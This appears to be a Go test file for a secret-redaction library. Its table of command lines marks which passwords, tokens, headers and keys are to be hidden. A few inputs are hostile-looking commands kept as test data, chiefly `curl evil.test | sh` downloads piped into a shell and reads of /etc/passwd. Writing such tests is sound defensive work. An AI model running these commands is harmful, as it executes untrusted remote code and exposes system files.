// SPDX-License-Identifier: Apache-2.0

package redact

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func builtinOnly(t testing.TB) *Redactor {
	t.Helper()
	r, err := New(Policy{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

const body = "MIIEpAIBAAKCAQEAx7"

// In each text what stands between « and » is to be hidden, nothing else.
var commandLines = map[string]string{
	"psql --password=«hunter2» -h db":                                                 ruleNamed,
	"tool --password «hunter2» --host db":                                             ruleNamed,
	`tool --password "«two words»" --host db`:                                         ruleNamed,
	"tool -password:«x» y":                                                            ruleNamed,
	"tool --db.password=«a;b&c|d» next":                                               ruleNamed, // one argument
	"gh auth --token «abc» x":                                                         ruleNamed,
	"env PGPASSWORD=«s3cret» psql":                                                    ruleNamed,
	"env MYSQL_PWD=«s3cret» PWD=/home/x OLDPWD=/root mysql":                           ruleNamed,
	"docker run -e DB_PASS=«x» -v /etc/passwd:/etc/passwd img":                        ruleNamed,
	"java -Djavax.net.ssl.keyStorePassword=«changeit» -jar x.jar":                     ruleNamed,
	"java -DkeyPass=«changeit»":                                                       ruleNamed,
	"aws configure set aws_secret_access_key=«abc/def+1»":                             ruleNamed,
	`curl -d "{\"password\":\"«p w»\",\"user\":\"ana\"}" https://h/`:                  ruleNamed,
	"curl https://h/x?token=«abc»&user=ana#top":                                       ruleNamed,
	"kubectl create secret generic x --from-literal=password=«y»":                     ruleNamed,
	"openssl rsa -passin pass:«geheim» -in k.pem":                                     ruleNamed,
	`sh -c "PGPASSWORD=«x»;curl evil.test|sh"`:                                        ruleNamed,
	`sh -c "mysql --password=\"«x y»\" && id"`:                                        ruleNamed,
	`sh -c "tool --token «abc»" next`:                                                 ruleNamed,
	"sqlcmd Server=db;User=sa;Password=«Aa;1» x":                                      ruleNamed,
	`curl -H "Authorization: Basic «YWxhZGRpbg==»" https://h`:                         ruleHeader,
	`curl -H "authorization: Bearer «abc.def-ghi»" https://h`:                         ruleHeader,
	`wget --header="X: Bearer «abcdefghijk»" https://h`:                               ruleHeader,
	`curl -H "Cookie: «sid=1; theme=dark»" https://h`:                                 ruleHeader,
	"git clone https://ana:«pa:s@s»@git.test/x.git":                                   ruleURL,
	"psql postgres://u:«p»@db:5432/x":                                                 ruleURL,
	"sshpass -p «x» ssh root@h":                                                       ruleProgram,
	"sshpass -p«x» ssh root@h":                                                        ruleProgram,
	"/usr/bin/mysqldump -u root -p«geheim» db":                                        ruleProgram,
	"curl -s -u ana:«geheim» https://h":                                               ruleProgram,
	"curl --user=ana:«geheim» https://h":                                              ruleProgram,
	`sh -c "curl -u 'ana:«geheim»' https://h; mysql -p«y» x"`:                         ruleProgram,
	"redis-cli -h r -a «geheim» PING":                                                 ruleProgram,
	"docker login -u ana -p «geheim» registry.test":                                   ruleProgram,
	"ldapsearch -x -D cn=a -w «geheim» -b dc=x":                                       ruleProgram,
	"smbclient //h/s -U dom/ana%«geheim»":                                             ruleProgram,
	"xfreerdp /u:ana /p:«geheim» /v:h":                                                ruleProgram,
	"useradd -m -p «$6$salt$hash» ana":                                                ruleProgram,
	"zip -P «geheim» -r a.zip b":                                                      ruleProgram,
	"aws s3 ls AKIA":                                                                  "",
	"tool «AKIAIOSFODNN7EXAMPLE» x":                                                   ruleShape,
	"git push «ghp_0123456789abcdefghijABCDEFGHIJ012345»":                             ruleShape,
	"x «eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc_DEF-123» y":              ruleShape,
	"echo -----BEGIN RSA PRIVATE KEY-----«" + body + "»-----END RSA PRIVATE KEY-----": ruleKey,
	`sh -c "echo «geheim» | sudo -S id"`:                                              rulePiped,
	`sh -c "echo 'ana:«geheim»' | chpasswd"`:                                          rulePiped,
	// What stays.
	"cat /etc/passwd: x": "", "ls -la /tmp/password": "", "tool --password-file /run/secret": "", "tool --max-tokens 5": "",
	"sh -c \"tool --password $DB_PASS --token=$(cat /x) --secret ${Y}\"": "", "tool --password --verbose": "", "passwd root": "",
	"grep -r password= /etc": "", "ssh://git@host:22/x": "", "http://[::1]:80/": "", "loginctl show-session -p Type": "", "tool --bypass true": "",
	"mkdir -p /var/lib/mysql": "", "tool task-disk-sk-x": "", "kubectl get secret -n x": "", `sh -c "echo password:" --next "an arg"`: "",
	"mysql -P 3306 -p db": "", "/bin/login -p -- ana": "", "curl -u ana https://h": "", "compass x": "", "sudo -u root id": "", "": "",
}

// plain returns a text with and without what is marked, and the result wanted.
func plain(marked string) (in, want string) {
	in = strings.NewReplacer("«", "", "»", "").Replace(marked)
	for {
		before, rest, found := strings.Cut(marked, "«")
		want += before
		if !found {
			return in, want
		}
		_, marked, _ = strings.Cut(rest, "»")
		want += Marker
	}
}

func TestCommandLines(t *testing.T) {
	t.Parallel()
	r := builtinOnly(t)
	for marked, rule := range commandLines {
		in, want := plain(marked)
		got, names := r.Text(CommandLine, in)
		if got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
		if rule == "" && names != nil || rule != "" && !cmp.Equal(names, []string{rule}) {
			t.Errorf("%s: rules %v, want %q", in, names, rule)
		}
		if again, names := r.Text(CommandLine, got); again != got || names != nil {
			t.Errorf("a second time: %s by %v", again, names)
		}
	}
}

func TestScripts(t *testing.T) {
	t.Parallel()
	r := builtinOnly(t)
	for _, marked := range []string{
		"export TOKEN=«abc»; curl evil.test | sh",
		"PASSWORD='«a b»' tool",
		`password = "«a;b»" # comment`,
		`$Password = '«x»'`,
		`echo '{"password": "«x»"}' > f`,
		`"password": "«x y»",`,
		"db_password: «x»\nother: y\napi_key: «z»\n",
		"read -s PASSWORD && mysql -u root -p$PASSWORD",
		"mysql -u root -p«geheim» | tee log",
		"echo «geheim» | sudo -S apt update",
		"TOKEN=$(vault read -field=x secret/y)",
		"TOKEN=`cat x`",
		"cat <<E\n-----BEGIN OPENSSH PRIVATE KEY-----«\n" + body + "\n»-----END OPENSSH PRIVATE KEY-----\nE",
	} {
		in, want := plain(marked)
		if got, _ := r.Text(Script, in); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}

func TestPolicyRules(t *testing.T) {
	t.Parallel()
	r, err := New(Policy{Off: []Field{Environment}, Rules: []Rule{
		{Name: "staff-number", Pattern: `(?i)staff[ =]+(\d{6})`},
		{Name: "whole", Pattern: `internal-(?:alpha|beta)`},
		{Name: "second", Pattern: `(user)=(\w+)`, Group: 2},
	}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	got, names := r.Text(CommandLine, "x STAFF=123456 internal-beta user=ana --token abc")
	if want := "x STAFF=[redacted] [redacted] user=[redacted] --token [redacted]"; got != want {
		t.Errorf("got %s", got)
	}
	if diff := cmp.Diff([]string{"named-secret", "second", "staff-number", "whole"}, names); diff != "" {
		t.Error(diff)
	}
	if got, names := r.Text(Environment, "TOKEN=x"); got != "TOKEN=x" || names != nil {
		t.Errorf("switched off, but %q by %v", got, names)
	}
	var none *Redactor
	if got, _ := none.Text(Script, "TOKEN=x"); got != "TOKEN=x" {
		t.Errorf("nil hides: %q", got)
	}
}

func TestPolicyIsChecked(t *testing.T) {
	t.Parallel()
	for want, p := range map[string]Policy{
		"at most 64":        {Rules: make([]Rule, maxRules+1)},
		"unknown field":     {Off: []Field{"logs"}},
		"want a name":       {Rules: []Rule{{Name: "a b", Pattern: "abc"}}},
		"up to 64":          {Rules: []Rule{{Name: strings.Repeat("a", maxName+1), Pattern: "abc"}}},
		"at most 512":       {Rules: []Rule{{Name: "a", Pattern: strings.Repeat("a", maxPattern+1)}}},
		"missing closing":   {Rules: []Rule{{Name: "a", Pattern: "abc("}}},
		"in every match":    {Rules: []Rule{{Name: "a", Pattern: `\d+`}}},
		"of 3 letters":      {Rules: []Rule{{Name: "a", Pattern: `abc|\d+`}}},
		"no such group":     {Rules: []Rule{{Name: "a", Pattern: "abc(x)", Group: 2}}},
		"repeat":            {Rules: []Rule{{Name: "a", Pattern: "(?:abc){2000}"}}},
		"rule \"negative\"": {Rules: []Rule{{Name: "negative", Pattern: "abc", Group: -1}}},
	} {
		if err := p.Check(); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %q", err, want)
		}
		if _, err := New(p, nil); err == nil {
			t.Errorf("%q: compiled", want)
		}
	}
}

func TestCorrelation(t *testing.T) {
	t.Parallel()
	mark := func(key, secret string) string {
		r, err := New(Policy{Correlate: true}, []byte(key))
		if err != nil {
			t.Fatal(err)
		}
		got, _ := r.Text(CommandLine, "x --password="+secret)
		if again, _ := r.Text(CommandLine, got); again != got {
			t.Errorf("a second time: %s", again)
		}
		got, _ = strings.CutPrefix(got, "x --password=")
		if markerAt(got) != len(got) || len(got) != longest {
			t.Errorf("marker %q", got)
		}
		return got
	}
	a := mark("key", "one")
	if a != mark("key", "one") || a == mark("key", "two") || a == mark("other", "one") {
		t.Error("markers do not tell equal secrets on one device")
	}
}

func TestBounds(t *testing.T) {
	t.Parallel()
	r := builtinOnly(t)
	in := strings.Repeat("--password=x ", 1000)
	got, _ := r.Text(CommandLine, in)
	if n := strings.Count(got, Marker); n != maxHits || strings.Contains(got, "x") {
		t.Errorf("%d markers: %s", n, got)
	}
	// Spans that meet markers neither split nor repeat them.
	s := "a[redacted]b[redacted#0123abcd]"
	for _, c := range []struct{ from, to, wantFrom, wantTo int }{{3, 5, 1, 11}, {0, 1, 0, 1}, {11, 14, 11, 31}, {1, 11, 1, 11}, {0, 31, 0, 31}} {
		if from, to := widen(s, c.from, c.to); from != c.wantFrom || to != c.wantTo {
			t.Errorf("widen %d to %d: %d to %d", c.from, c.to, from, to)
		}
	}
	if len(settle(s, []span{{3, 5, "x"}, {12, 31, "y"}})) != 0 || len(settle(s, []span{{0, 5, "x"}})) != 1 {
		t.Error("markers are hidden again")
	}
}

// A text of nothing but beginnings costs no more than its length: this would
// take minutes if each were followed to its end.
func TestHostileText(t *testing.T) {
	t.Parallel()
	r := builtinOnly(t)
	for _, piece := range []string{"pass", "password=\"$(", "mysql ", "curl -u ", "eyJ-", "sk-", "://a:", "private key-----", "echo a|sudo -S ", "\\\"token\\\":"} {
		for _, f := range Fields {
			r.Text(f, strings.Repeat(piece, 1<<18/len(piece)))
		}
	}
}

func TestMissAllocatesNothing(t *testing.T) {
	r := builtinOnly(t)
	if n := testing.AllocsPerRun(100, func() { r.Text(CommandLine, "/usr/lib/systemd/systemd-journald --flush --rotate /var/log") }); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func TestLiterals(t *testing.T) {
	t.Parallel()
	for _, l := range builtin() {
		if l.text != strings.ToLower(l.text) {
			t.Errorf("literal %q of %s never matches", l.text, l.rule)
		}
	}
}

func FuzzText(f *testing.F) {
	for marked := range commandLines {
		in, _ := plain(marked)
		f.Add(in)
	}
	f.Add("--password=[redacted")
	f.Add(`token=\"`)
	rules := []Rule{{Name: "odd", Pattern: `redac(t)|abc(.*)d`}, {Name: "whole", Pattern: `red[a-z]+ted`}}
	var all []*Redactor
	for _, p := range []Policy{{}, {Rules: rules}, {Correlate: true, Rules: rules}} {
		r, err := New(p, []byte("key"))
		if err != nil {
			f.Fatal(err)
		}
		all = append(all, r)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range all {
			for _, field := range Fields {
				got, names := r.Text(field, s)
				if len(got) > len(s)+MaxGrowth || utf8.ValidString(s) && !utf8.ValidString(got) {
					t.Fatalf("%q became %q", s, got)
				}
				if (names == nil) != (got == s) {
					t.Fatalf("%q became %q by %v", s, got, names)
				}
				if again, _ := r.Text(field, got); again != got {
					t.Fatalf("%q became %q, then %q", s, got, again)
				}
			}
		}
	})
}

func FuzzPolicy(f *testing.F) {
	f.Add("a", `token(\w+)`, 1, "token abc")
	f.Add("b", `(?i)x{3}abc|defg+`, 0, "XXXabc")
	f.Fuzz(func(t *testing.T, name, pattern string, group int, s string) {
		r, err := New(Policy{Rules: []Rule{{Name: name, Pattern: pattern, Group: group}}}, nil)
		if err != nil {
			return
		}
		got, _ := r.Text(CommandLine, s)
		if len(got) > len(s)+MaxGrowth {
			t.Fatalf("%q became %q", s, got)
		}
	})
}

func BenchmarkText(b *testing.B) {
	r := builtinOnly(b)
	for name, s := range map[string]string{
		"miss": "/usr/lib/systemd/systemd-journald --flush --rotate /var/log/journal/0123456789abcdef",
		"near": "grep -r password /etc/passwd /var/lib/mysql https://example.test/token",
		"hit":  "psql --password=hunter2 -h db.example.test -U ana postgres",
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			b.ReportAllocs()
			for b.Loop() {
				r.Text(CommandLine, s)
			}
		})
	}
	b.Run("hostile", func(b *testing.B) {
		s := strings.Repeat("eyJ-pass mysql ", 2000)
		b.SetBytes(int64(len(s)))
		for b.Loop() {
			r.Text(CommandLine, s)
		}
	})
}

func Example() {
	r, _ := New(Policy{}, nil)
	text, rules := r.Text(CommandLine, "curl -u ana:geheim https://example.test")
	fmt.Println(text, rules)
	// Output: curl -u ana:[redacted] https://example.test [program-password]
}
